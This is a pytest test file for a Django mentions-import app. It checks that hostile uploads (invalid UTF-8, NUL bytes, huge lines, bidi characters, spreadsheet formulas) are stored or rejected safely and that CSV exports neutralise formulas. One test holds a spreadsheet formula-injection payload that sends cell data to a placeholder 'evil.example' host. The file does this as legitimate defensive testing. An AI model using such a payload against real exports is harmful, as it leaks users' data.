"""Importers and storage given hostile bytes and text: each row is stored safely or rejected with a
reason; nothing crashes the import or loses the rest of its batch."""

import csv
import io
import json

import pytest
from django.core.files.base import ContentFile
from hypothesis import given
from hypothesis import strategies as st

from dashboards.exports import FORMULA_PREFIXES, csv_safe
from mentions.importing import import_job_create, import_job_run, import_row_normalize, read_rows
from mentions.models import ImportJob, Mention, RejectedPayload
from mentions.services import mention_ingest
from sources.connectors.base import MentionData, NormalizationError
from sources.connectors.demo import DemoConnector
from tests.factories import SourceFactory

from .strategies import hostile_text

GOOD_CSV_ROW = b"2026-05-01T10:00:00Z,reddit,Riverside General parking again\n"


def _read_all(path) -> list:
    outcomes = []
    for _, row in read_rows(path):
        try:
            outcomes.append(import_row_normalize(row, default_platform="other"))
        except NormalizationError as error:
            outcomes.append(error)
    return outcomes


@given(body=st.binary(max_size=2000), suffix=st.sampled_from([".csv", ".jsonl", ".txt"]))
def test_any_file_reads_as_rows_that_normalize_or_are_rejected(tmp_path_factory, body, suffix):
    path = tmp_path_factory.mktemp("import") / f"upload{suffix}"
    path.write_bytes(body)
    for outcome in _read_all(path):
        assert isinstance(outcome, MentionData | NormalizationError)


@given(
    rows=st.lists(
        st.one_of(
            st.binary(max_size=200), st.builds(lambda t: json.dumps({"text": t}).encode(), hostile_text)
        ),
        max_size=8,
    )
)
def test_a_bad_jsonl_line_never_hides_the_good_lines_after_it(tmp_path_factory, rows):
    good = json.dumps({"text": "Riverside General ER", "posted_at": "2026-05-01T10:00:00Z", "id": "good"})
    lines = [row.replace(b"\n", b" ").replace(b"\r", b" ") for row in rows] + [good.encode()]
    path = tmp_path_factory.mktemp("import") / "upload.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")
    outcomes = _read_all(path)
    assert isinstance(outcomes[-1], MentionData) and outcomes[-1].external_id == "good"


@pytest.mark.django_db
def test_invalid_utf8_nul_bytes_and_a_10_mb_line_are_rejected_or_stored_and_the_rest_imported():
    huge = "Riverside General " + "x" * (10 * 1024 * 1024)
    body = (
        b"posted_at,platform,text\n"
        + b"2026-05-01T10:00:00Z,reddit,caf\xe9 au lait at Riverside General\n"  # Latin-1, not UTF-8.
        + b"2026-05-01T10:00:00Z,reddit,NUL\x00 in the middle at Riverside General\n"
        + b"2026-05-01T10:00:00Z,reddit,"
        + huge.encode()
        + b"\n"
        + GOOD_CSV_ROW
    )
    job = import_job_create(file=ContentFile(body), original_name="hostile.csv", enqueue=False)
    job = import_job_run(job_id=job.pk)
    assert job.status == ImportJob.Status.DONE
    assert (job.rows_imported, job.rows_rejected) == (3, 1)
    assert "not valid UTF-8" in RejectedPayload.objects.get().error
    texts = sorted(Mention.objects.values_list("text", flat=True), key=len)
    assert texts[0] == "Riverside General parking again"
    assert "\x00" not in "".join(texts)
    assert len(texts[-1]) == len(huge)


@pytest.mark.django_db
def test_a_formula_in_an_imported_post_is_stored_as_text_and_neutralised_in_csv_exports():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Riverside General")'
    body = json.dumps({"text": formula, "posted_at": "2026-05-01T10:00:00Z", "id": "f1"}).encode() + b"\n"
    job = import_job_create(file=ContentFile(body), original_name="formula.jsonl", enqueue=False)
    import_job_run(job_id=job.pk)
    stored = Mention.objects.get(external_id="f1").text
    assert stored == formula  # Kept exactly as posted; it is the export that must not run it.
    out = io.StringIO()
    csv.writer(out).writerow([csv_safe(stored)])
    [cell] = next(csv.reader(io.StringIO(out.getvalue())))
    assert cell == "'" + formula


@given(value=st.one_of(hostile_text, st.sampled_from(FORMULA_PREFIXES).map(lambda p: p + "SUM(A1:A9)")))
def test_no_exported_cell_starts_like_a_formula(value):
    safe = csv_safe(value)
    assert safe in (value, "'" + value)
    assert not safe.startswith(FORMULA_PREFIXES)
    out = io.StringIO()
    csv.writer(out).writerow([safe, "next"])
    cells = next(csv.reader(io.StringIO(out.getvalue(), newline=""), strict=False))
    assert not cells[0].startswith(FORMULA_PREFIXES)


@pytest.mark.django_db
@given(text=hostile_text, title=hostile_text)
def test_control_and_bidi_characters_are_stored_and_read_back_safely(text, title):
    source = SourceFactory(name="Demo data")
    raw = {"platform": "x", "id": f"bidi-{abs(hash((text, title)))}", "text": text or "-", "title": title}
    raw["posted_at"] = "2026-05-01T10:00:00+00:00"
    result = mention_ingest(source=source, raw_items=[raw], normalize=DemoConnector({}).normalize)
    assert result.new + result.duplicates + result.rejected == 1
    if result.new:
        expected = DemoConnector({}).normalize(raw)
        stored = Mention.objects.get(pk=result.new_ids[0])
        assert stored.text == expected.text.replace("\x00", "")
        assert stored.title == expected.title.replace("\x00", "")[:500]
